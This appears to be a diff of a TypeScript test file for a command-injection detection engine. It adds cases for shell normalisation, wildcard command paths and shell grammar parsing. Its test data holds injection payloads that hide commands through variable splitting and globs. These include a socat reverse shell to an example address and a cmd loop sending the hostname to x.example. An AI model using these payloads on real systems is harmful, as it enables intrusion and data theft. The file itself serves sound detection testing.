@@ -2,6 +2,8 @@ import fc from 'fast-check';
 import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
 import { shellForm } from '@/runtime/analyzer/engine/detection/decode';
 import { commandInjectionPack } from '@/runtime/analyzer/engine/detection/rules/cmdi';
+import { shellCommands } from '@/runtime/analyzer/engine/detection/shell';
+import { globMatches, resolveGlobCommand } from '@/runtime/analyzer/engine/detection/shell/glob';
 import { templateInjectionPack } from '@/runtime/analyzer/engine/detection/rules/ssti';
 import { ruleScore } from '@/runtime/analyzer/engine/detection/scoring';
 import type { RulePack, ValueLocation } from '@/runtime/analyzer/engine/detection/types';
@@ -230,6 +232,49 @@ describe('command injection pack', () => {
   });
 
   it.each([
+    // variables the value assigns, then expands into a command (sh and cmd)
+    'x;a=who;b=ami;${a}${b}',
+    'x|a=\'w\';b="hoami";$a$b',
+    'x;c=id;$c',
+    'x;export p=uname;$p -a',
+    'x& set a=who&&set b=ami&&call %a%%b%',
+    'x& set "a=host"&& set "b=name"&& call %a%%b%',
+    // unset braced variables inside a word, an empty brace alternative
+    'x;w${u}h${u}o${u}a${u}m${u}i',
+    'x|un${z}ame -a',
+    'x;{id,}',
+    // wildcard paths the shell expands to a command
+    'x;/usr/b[i]n/wh[o]ami',
+    'x|/u?r/?b?n/u?am? -a',
+    '127.0.0.1;/s??n/if*fig',
+    // redirections among a command's arguments; socat relays; launchers
+    'x;find / -writable -type d 2>/dev/null',
+    'x;socat tcp-connect:198.51.100.7:4444 exec:/bin/bash,pty,stderr',
+    'x;sudo whoami',
+    'x;nohup id',
+    // cmd: for /f running a command
+    'x& for /f "tokens=*" %a in (\'hostname\') do curl http://x.example/%a',
+  ])('alerts at level 1 on the evasion or injection technique %s', (payload) => {
+    expect(score(commandInjectionPack, payload)).toBeGreaterThanOrEqual(5);
+  });
+
+  it.each([
+    // variables, braces and globs in text and code
+    'a=1&b=2&c=$a',
+    'R&D: a=1;b=2',
+    'debug=true;verbose=$debug',
+    'hello${name}world',
+    'tags {foo,}',
+    'glob /*/* pattern',
+    'src/**/*.ts',
+    'see /usr/lib/*.so for files',
+    'x; then what',
+    'please start the engine; start now',
+  ])('leaves %s alone at level 1', (value) => {
+    expect(score(commandInjectionPack, value)).toBeLessThan(5);
+  });
+
+  it.each([
     'IEX (Investors Exchange) opened higher',
     'How to download files in PowerShell',
     'new object oriented design',
@@ -280,8 +325,28 @@ describe('shell form', () => {
     expect(shellForm('say "hello" world')).toBe('say "hello" world');
   });
 
+  it('expands the variables a value assigns and drops the assignments, which run nothing', () => {
+    expect(shellForm(';a=wh;b=oami;$a$b')).toBe(';;;whoami');
+    expect(shellForm('x;a=\'wh\' b="oami";${a}${b} -a')).toBe('x; ;whoami -a');
+    expect(shellForm('& set x=who&& set y=ami&& call %x%%y%')).toBe('& && && call whoami');
+    // nothing assigned is used: the text stays as it is
+    expect(shellForm('a=1&b=2&c=$d')).toBe('a=1&b=2&c=$d');
+    // expanding would lengthen the value
+    expect(shellForm(';a=whoami;$a;$a;$a')).toBe(';a=whoami;$a;$a;$a');
+  });
+
+  it('empties a braced variable the value never assigns inside a word, and reads an empty brace alternative', () => {
+    expect(shellForm(';who${x}ami')).toBe(';whoami');
+    expect(shellForm('total ${amount} usd')).toBe('total ${amount} usd');
+    expect(shellForm(';{whoami,}')).toBe(';whoami ');
+  });
+
+  it("runs the command of cmd's for /f like a substitution", () => {
+    expect(shellForm("& for /f %i in ('whoami') do nslookup %i.x")).toBe('& for /f %i in $(whoami);do nslookup %i.x');
+  });
+
   it('terminates and never grows the value on arbitrary input', () => {
-    const alphabet = fc.constantFrom(...'$\'"`(){},;|&^\\ +ifsIFS0123abc/.-*?'.split(''));
+    const alphabet = fc.constantFrom(...'$\'"`(){},;|&^\\ +ifsIFS0123abc/.-*?=%~[]'.split('').concat(['set ', ' in (', ') do', 'a=']));
     fc.assert(
       fc.property(fc.array(alphabet, { maxLength: 400 }), (chars) => {
         const input = chars.join('').toLowerCase();
@@ -289,5 +354,48 @@ describe('shell form', () => {
       }),
       { numRuns: 500 },
     );
+  });
+});
+
+describe('wildcard command paths', () => {
+  it('expands a wildcard path to the command it names in a binary directory', () => {
+    expect(resolveGlobCommand('/u?r/b?n/i?')).toBe('id');
+    expect(resolveGlobCommand('/???/??t')).toBeDefined();
+    expect(resolveGlobCommand('/usr/b[i]n/wh[o]ami')).toBe('whoami');
+    expect(resolveGlobCommand('/bin/[!x]at')).toBe('cat');
+    expect(resolveGlobCommand('/usr/local/bin/*hoami')).toBe('whoami');
+  });
+
+  it('leaves patterns that spell no command, or lie outside binary directories', () => {
+    expect(resolveGlobCommand('/usr/bin/id')).toBeUndefined();
+    expect(resolveGlobCommand('/*/*')).toBeUndefined();
+    expect(resolveGlobCommand('/bin/*')).toBeUndefined();
+    expect(resolveGlobCommand('/etc/pa??wd')).toBeUndefined();
+    expect(resolveGlobCommand('/usr/lib/*.so')).toBeUndefined();
+    expect(resolveGlobCommand('/bin/zz?zz')).toBeUndefined();
+  });
+
+  it('matches globs as the shell does', () => {
+    expect(globMatches('*', '')).toBe(true);
+    expect(globMatches('a*b*c', 'axxbyyc')).toBe(true);
+    expect(globMatches('a*b*c', 'axxbyy')).toBe(false);
+    expect(globMatches('[a-c]?', 'bz')).toBe(true);
+    expect(globMatches('[a-c]?', 'dz')).toBe(false);
+    expect(globMatches('[ab', '[ab')).toBe(true);
+  });
+});
+
+describe('shell grammar readings', () => {
+  const names = (value: string) => shellCommands(shellForm(value)).map((c) => c.name);
+
+  it('reads the command a launcher runs, or the launcher when none follows', () => {
+    expect(names('x;sudo whoami')).toEqual(['whoami']);
+    expect(names('x& call whoami')).toEqual(['whoami']);
+    expect(names('x;sudo -l')).toEqual(['sudo']);
+  });
+
+  it('reads redirections as arguments and a closing quote of a JSON string as the end of a command', () => {
+    expect(shellCommands('x; find / -perm -4000 2>/dev/null')[0]).toMatchObject({ name: 'find', commandArgs: true });
+    expect(shellCommands('{"host":"8.8.8.8;id"}')[0]).toMatchObject({ name: 'id', endsCleanly: true });
   });
 });
